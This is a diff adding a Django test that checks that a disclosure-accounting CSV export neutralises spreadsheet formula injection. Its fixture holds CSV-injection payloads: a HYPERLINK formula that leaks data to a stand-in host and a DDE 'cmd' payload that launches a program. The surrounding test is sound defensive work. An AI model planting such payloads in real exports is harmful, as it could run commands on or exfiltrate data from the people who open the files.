@@ -177,6 +177,33 @@ def test_the_accounting_downloads_as_csv(record, login):
     assert AuditEvent.objects.filter(action="disclosure.accounting").exists()
 
 
+def test_the_accounting_csv_neutralises_cells_a_spreadsheet_would_run(record, login):
+    import csv
+    import io
+
+    Disclosure.objects.create(
+        client=record.client,
+        recipient_name='=HYPERLINK("http://example.invalid/?leak","Open")',
+        recipient_contact="=cmd|' /C calc'!A0",
+        scope=["diagnoses"],
+        purpose="@SUM(1+1)",
+        exception="required_by_law",
+        justification="Court order.",
+        format="pdf",
+        package_name="p.zip",
+        package_sha256="0" * 64,
+        by=record.alice,
+    )
+    response = login(record.cast.pria).get(
+        f"/clients/{record.client.pk}/accounting-of-disclosures/?format=csv"
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells, "the disclosure is in the accounting"
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(\"http://example.invalid/?leak\",\"Open\")" in cells
+
+
 def test_the_privacy_officer_reads_the_disclosure_log_and_nobody_else(record, login):
     assert login(record.cast.pria).get("/disclosures/").status_code == 200
     assert login(record.alice).get("/disclosures/").status_code == 404
